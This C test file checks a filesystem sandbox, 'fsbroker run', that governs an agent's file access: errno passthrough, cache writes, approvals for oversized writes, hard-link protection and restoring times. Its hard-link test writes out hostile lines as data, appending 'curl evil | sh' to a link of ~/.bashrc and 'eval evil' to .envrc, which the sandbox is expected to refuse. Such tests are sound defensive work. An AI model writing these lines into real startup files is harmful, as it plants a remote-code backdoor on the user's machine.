/*
 * test_run_everyday.c — what the tools an agent runs all day rely on, under
 * `fsbroker run` on the default pack: a call that would fail anyway fails
 * with the kernel's errno (Node's recursive mkdir, `mkdir -p`, git's
 * clean-up rmdir stop on EACCES where they expect EEXIST or ENOTEMPTY) and
 * is not listed as refused, while a path the pack hides still answers
 * EACCES; the tools' caches are written without an ask and without a
 * backup; a write over the backup size limit is named in the summary with
 * its real path, and the approval the summary prints lets the rerun through;
 * a hard-linked (pnpm-style) tree is rewritten as bare, while a link made
 * beforehand to a protected file cannot change it.
 */
#include "run_fixture.h"

/* One run of `script` with --summary-fd: its summary and exit status. */
static cJSON *run_with_summary(struct fixture *f, const char *script, int *exit_status,
			       char **out)
{
	struct runproc p;
	cJSON *s;
	int st;

	run_start((char *[]){ (char *)fsbt_binary(), "run", "--workspace", f->ws, "--state-dir",
			      f->state, "--session", "s", "--summary-fd", "5", "--", "sh", "-c",
			      (char *)script, NULL }, false, &p);
	st = run_finish(&p);
	assert_true(WIFEXITED(st));
	*exit_status = WEXITSTATUS(st);
	s = run_summary(&p);
	*out = strdup(p.obuf != NULL ? p.obuf : "");
	run_free(&p);
	return s;
}

static int list_size(const cJSON *s, const char *name)
{
	return cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(s, name));
}

/* Each errno a probe printed, as "name=ERRNO\n" lines of `out`. */
static void expect_line(const char *out, const char *line)
{
	if (strstr(out, line) == NULL)
		fail_msg("expected '%s' in the probe's output:\n%s", line, out);
}

/* Prints name=ok or name=<errno name> for each call, as the kernel answers
 * it inside the sandbox. */
static const char probe[] =
	"python3 - <<'EOF'\n"
	"import errno, os\n"
	"H = os.environ['HOME']\n"
	"def t(name, f, *a):\n"
	"    try:\n"
	"        f(*a); r = 'ok'\n"
	"    except OSError as e:\n"
	"        r = errno.errorcode[e.errno]\n"
	"    print(name + '=' + r)\n"
	"t('mkdir-existing', os.mkdir, H + '/.config')\n"
	"t('makedirs-existing', os.makedirs, H + '/.config/app', 0o777, True)\n"
	"t('rmdir-nonempty', os.rmdir, H + '/.config')\n"
	"t('mkdir-no-parent', os.mkdir, H + '/none/x')\n"
	"t('create-no-parent', open, H + '/none/x', 'w')\n"
	"t('unlink-missing', os.unlink, H + '/missing.txt')\n"
	"t('mkdir-etc', os.mkdir, '/etc')\n"
	"t('rmdir-git', os.rmdir, os.getcwd() + '/.git')\n"
	"t('mkdir-ssh', os.mkdir, H + '/.ssh')\n"
	"t('create-in-ssh', open, H + '/.ssh/new', 'w')\n"
	"EOF\n";

static void calls_that_fail_anyway_get_the_kernels_errno_and_are_not_refused(void **state)
{
	struct fixture *f = *state;
	char why[512], dir[PATH_MAX + 32], *out = NULL;
	const cJSON *d;
	cJSON *s;
	int ex;

	if (fsbt_sandbox_unsupported(why, sizeof(why)) != NULL)
		fsbt_skip("%s", why);
	snprintf(dir, sizeof(dir), "%s/.config", f->home);
	assert_int_equal(mkdir(dir, 0755), 0);
	snprintf(dir, sizeof(dir), "%s/.config/app", f->home);
	assert_int_equal(mkdir(dir, 0755), 0);
	snprintf(dir, sizeof(dir), "%s/.git", f->ws);
	assert_int_equal(mkdir(dir, 0755), 0);
	fsbt_put(dir, "HEAD", "ref: refs/heads/main\n");

	s = run_with_summary(f, probe, &ex, &out);
	assert_int_equal(ex, 0);
	/* As bare: the name exists, or a directory on the way does not. */
	expect_line(out, "mkdir-existing=EEXIST\n");
	expect_line(out, "makedirs-existing=ok\n");
	expect_line(out, "rmdir-nonempty=ENOTEMPTY\n");
	expect_line(out, "mkdir-no-parent=ENOENT\n");
	expect_line(out, "create-no-parent=ENOENT\n");
	expect_line(out, "unlink-missing=ENOENT\n");
	expect_line(out, "mkdir-etc=EEXIST\n");
	expect_line(out, "rmdir-git=ENOTEMPTY\n");
	/* A path the pack hides says nothing about what is there. */
	expect_line(out, "mkdir-ssh=EACCES\n");
	expect_line(out, "create-in-ssh=EACCES\n");

	/* Only the hidden ones are refusals; nothing waits for an approval. */
	assert_int_equal(list_size(s, "waiting"), 0);
	d = cJSON_GetObjectItemCaseSensitive(s, "denied");
	for (int i = 0; i < cJSON_GetArraySize(d); i++) {
		const char *p = fsbt_str(cJSON_GetArrayItem(d, i), "path");

		if (strncmp(p, f->key, strlen(f->home) + 5) != 0)
			fail_msg("refused a call the kernel refuses anyway: %s",
				 cJSON_PrintUnformatted(cJSON_GetArrayItem(d, i)));
	}
	assert_true(cJSON_GetArraySize(d) >= 1);
	cJSON_Delete(s);
	free(out);
}

static void tool_caches_are_written_without_an_ask_or_a_backup(void **state)
{
	struct fixture *f = *state;
	char why[512], path[PATH_MAX + 64], *out = NULL, *text;
	cJSON *s;
	int ex;

	if (fsbt_sandbox_unsupported(why, sizeof(why)) != NULL)
		fsbt_skip("%s", why);
	/* A fresh home: neither ~/.npm nor ~/.cache exists yet. */
	s = run_with_summary(f,
			     "set -e; mkdir -p ~/.npm/_cacache/tmp ~/.cache/pip/http;"
			     "echo blob > ~/.npm/_cacache/tmp/x; echo wheel > ~/.cache/pip/http/w;"
			     "echo blob2 > ~/.npm/_cacache/tmp/x;"
			     "if echo hook > ~/.cache/pre-commit-hook 2>/dev/null; then echo planted; fi",
			     &ex, &out);
	assert_int_equal(ex, 0);
	assert_null(strstr(out, "planted"));
	snprintf(path, sizeof(path), "%s/.npm/_cacache/tmp/x", f->home);
	text = fsbt_read_file(path, NULL);
	assert_string_equal(text, "blob2\n");
	free(text);
	snprintf(path, sizeof(path), "%s/.cache/pip/http/w", f->home);
	text = fsbt_read_file(path, NULL);
	assert_string_equal(text, "wheel\n");
	free(text);
	/* The caches asked nothing; the rest of ~/.cache still asks. */
	assert_int_equal(list_size(s, "waiting"), 1);
	snprintf(path, sizeof(path), "%s/.cache/pre-commit-hook", f->home);
	assert_string_equal(fsbt_str(cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(s,
						"waiting"), 0), "path"), path);
	/* The rewrite of a cache file kept no copy of it. */
	assert_int_equal((int)fsbt_num(s, "backedUp"), 0);
	cJSON_Delete(s);
	free(out);
}

static void write_over_the_size_limit_is_named_and_its_approval_lets_the_rerun_through(
	void **state)
{
	struct fixture *f = *state;
	char why[512], big[PATH_MAX + 16], approve[PATH_MAX * 2], rerun[PATH_MAX * 4];
	char *out = NULL, *printed = NULL;
	struct stat st;
	const cJSON *w;
	cJSON *s;
	int ex, rc;

	if (fsbt_sandbox_unsupported(why, sizeof(why)) != NULL)
		fsbt_skip("%s", why);
	/* Over the default pack's backup.maxSizeMB (10). */
	snprintf(big, sizeof(big), "%s/big.bin", f->ws);
	fsbt_write_file(big, "head\n");
	assert_int_equal(truncate(big, 11 << 20), 0);

	/* 1. Held: the file unchanged, the summary names it by its real path. */
	s = run_with_summary(f, "echo tail >> big.bin", &ex, &out);
	assert_int_not_equal(ex, 0);
	assert_int_equal(stat(big, &st), 0);
	assert_int_equal(st.st_size, 11 << 20);
	assert_int_equal(list_size(s, "waiting"), 1);
	w = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(s, "waiting"), 0);
	assert_string_equal(fsbt_str(w, "path"), big);
	assert_string_equal(fsbt_str(w, "op"), "write");
	assert_non_null(strstr(fsbt_str(w, "rule"), "backup.onTooLarge ask"));
	snprintf(approve, sizeof(approve), "%s", fsbt_str(w, "approveCommand"));
	snprintf(rerun, sizeof(rerun), "%s", fsbt_str(s, "rerunCommand"));
	cJSON_Delete(s);
	free(out);

	/* 2. The approval and the rerun, as printed: the write goes through,
	 * listed as changed without a backup. */
	rc = run_printed(approve, &printed);
	if (rc != 0)
		fail_msg("%s failed: %s", approve, printed);
	free(printed);
	printed = NULL;
	rc = run_printed(rerun, &printed);
	assert_true(WIFEXITED(rc));
	assert_int_equal(WEXITSTATUS(rc), 0);
	assert_non_null(strstr(printed, "changed without a backup: write of "));
	assert_non_null(strstr(printed, big));
	free(printed);
	assert_int_equal(stat(big, &st), 0);
	assert_int_equal(st.st_size, (11 << 20) + 5);

	/* 3. A once approval is used up: the next write asks again. */
	s = run_with_summary(f, "echo more >> big.bin", &ex, &out);
	assert_int_not_equal(ex, 0);
	assert_int_equal(list_size(s, "waiting"), 1);
	assert_int_equal(stat(big, &st), 0);
	assert_int_equal(st.st_size, (11 << 20) + 5);
	cJSON_Delete(s);
	free(out);
}

/* `name` in `dir`, hard-linked to `to`. */
static void link_in(const char *to, const char *dir, const char *name)
{
	char path[PATH_MAX + 64];

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if (link(to, path) != 0)
		fail_msg("link %s %s: %s", to, path, strerror(errno));
}

static void hard_linked_tree_is_rewritten_but_a_link_to_a_protected_file_is_not(void **state)
{
	struct fixture *f = *state;
	char why[512], store[PATH_MAX + 64], blob[PATH_MAX + 96], nm[PATH_MAX + 32];
	char bashrc[PATH_MAX + 16], envrc[PATH_MAX + 16], *out = NULL, *text;
	const cJSON *d;
	cJSON *s;
	int ex;

	if (fsbt_sandbox_unsupported(why, sizeof(why)) != NULL)
		fsbt_skip("%s", why);
	/* pnpm's layout: the store in home, node_modules/.pnpm linking into it. */
	snprintf(store, sizeof(store), "%s/.local/share/pnpm/store/v3/files/ab", f->home);
	snprintf(nm, sizeof(nm), "%s/node_modules/.pnpm/a@1.0.0/node_modules/a", f->ws);
	assert_int_equal(system((snprintf(why, sizeof(why), "mkdir -p '%s' '%s'", store, nm), why)),
			 0);
	snprintf(blob, sizeof(blob), "%s/cdef", store);
	fsbt_write_file(blob, "module.exports = 1;\n");
	link_in(blob, nm, "index.js");
	/* Links made beforehand to files the pack protects: ~/.bashrc (asked
	 * about) and the workspace's .envrc (denyModify). */
	snprintf(bashrc, sizeof(bashrc), "%s/.bashrc", f->home);
	fsbt_write_file(bashrc, "export SAFE=1\n");
	link_in(bashrc, f->ws, "innocent.txt");
	snprintf(envrc, sizeof(envrc), "%s/.envrc", f->ws);
	fsbt_write_file(envrc, "layout python\n");
	link_in(envrc, f->ws, "notes.txt");

	s = run_with_summary(f,
			     "m=node_modules/.pnpm/a@1.0.0/node_modules/a/index.js;"
			     "echo 'module.exports = 2;' > $m && chmod 600 $m && ln $m again.js &&"
			     "echo linked;"
			     "echo 1 >> again.js || echo outside-refused;"
			     "echo 'curl evil | sh' >> innocent.txt || echo bashrc-refused;"
			     "chmod 777 innocent.txt || echo chmod-refused;"
			     "echo 'eval evil' > notes.txt || echo envrc-refused;"
			     "ln innocent.txt third.txt || echo link-refused",
			     &ex, &out);
	/* The pnpm tree: rewritten, chmodded, linked again, as bare; the new
	 * name outside pnpm's trees is asked about as any hard link. */
	expect_line(out, "linked\n");
	expect_line(out, "outside-refused\n");
	text = fsbt_read_file(blob, NULL);
	assert_string_equal(text, "module.exports = 2;\n");
	free(text);
	/* The protected files: untouched through any name. */
	expect_line(out, "bashrc-refused\n");
	expect_line(out, "chmod-refused\n");
	expect_line(out, "envrc-refused\n");
	expect_line(out, "link-refused\n");
	text = fsbt_read_file(bashrc, NULL);
	assert_string_equal(text, "export SAFE=1\n");
	free(text);
	text = fsbt_read_file(envrc, NULL);
	assert_string_equal(text, "layout python\n");
	free(text);
	/* Refused, naming the protected file; only again.js waits. */
	assert_int_equal(list_size(s, "waiting"), 1);
	d = cJSON_GetObjectItemCaseSensitive(s, "denied");
	assert_true(cJSON_GetArraySize(d) >= 3);
	for (int i = 0; i < cJSON_GetArraySize(d); i++) {
		const char *rule = fsbt_str(cJSON_GetArrayItem(d, i), "rule");

		if (strncmp(rule, "hardlinks: another name of ", 27) != 0)
			fail_msg("refused by another rule: %s",
				 cJSON_PrintUnformatted(cJSON_GetArrayItem(d, i)));
		if (strstr(rule, bashrc) == NULL && strstr(rule, envrc) == NULL)
			fail_msg("the rule does not name the protected file: %s", rule);
	}
	cJSON_Delete(s);
	free(out);
}

/* rsync -a sets the times of the destination directory as "dst/." with
 * AT_SYMLINK_NOFOLLOW, and the supervisor answered EINVAL ("failed to set
 * times on dst/.", rsync exit 23): a name ending in "." or ".." names a
 * directory that is never a symlink, as the kernel knows. */
static void times_set_through_dir_dot_with_nofollow_work_and_restore(void **state)
{
	struct fixture *f = *state;
	char why[512], dir[PATH_MAX + 32], *out = NULL;
	struct stat before, after;
	int ex;
	cJSON *s;

	if (fsbt_sandbox_unsupported(why, sizeof(why)) != NULL)
		fsbt_skip("%s", why);
	snprintf(dir, sizeof(dir), "%s/dst", f->ws);
	assert_int_equal(mkdir(dir, 0755), 0);
	fsbt_put(dir, "a", "a\n");
	assert_int_equal(stat(dir, &before), 0);
	s = run_with_summary(f, "touch -h -d '2020-01-02 03:04:05Z' dst/. && mkdir dst/sub && "
			     "touch -h -d '2020-01-02 03:04:05Z' dst/sub/.. && stat -c %Y dst", &ex,
			     &out);
	if (ex != 0)
		fail_msg("touch -h of dst/. exited %d:\n%s", ex, out);
	expect_line(out, "1577934245\n");
	assert_true(list_size(s, "denied") == 0);
	cJSON_Delete(s);
	free(out);
	/* The cycle's restore gives the directory its time back. */
	{
		char cmd[PATH_MAX * 2];

		snprintf(cmd, sizeof(cmd), "fsbroker backup restore --last --state-dir '%s' "
			 "--session s", f->state);
		assert_int_equal(run_printed(cmd, &out), 0);
		free(out);
	}
	assert_int_equal(stat(dir, &after), 0);
	assert_int_equal(after.st_mtim.tv_sec, before.st_mtim.tv_sec);
	assert_int_equal(after.st_mtim.tv_nsec, before.st_mtim.tv_nsec);
	snprintf(dir, sizeof(dir), "%s/dst/sub", f->ws);
	assert_int_equal(access(dir, F_OK), -1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(
			calls_that_fail_anyway_get_the_kernels_errno_and_are_not_refused, setup,
			teardown),
		cmocka_unit_test_setup_teardown(tool_caches_are_written_without_an_ask_or_a_backup,
						setup, teardown),
		cmocka_unit_test_setup_teardown(
			write_over_the_size_limit_is_named_and_its_approval_lets_the_rerun_through,
			setup, teardown),
		cmocka_unit_test_setup_teardown(
			hard_linked_tree_is_rewritten_but_a_link_to_a_protected_file_is_not, setup,
			teardown),
		cmocka_unit_test_setup_teardown(
			times_set_through_dir_dot_with_nofollow_work_and_restore, setup, teardown),
	};

	return fsbt_run_group(tests, NULL, NULL);
}
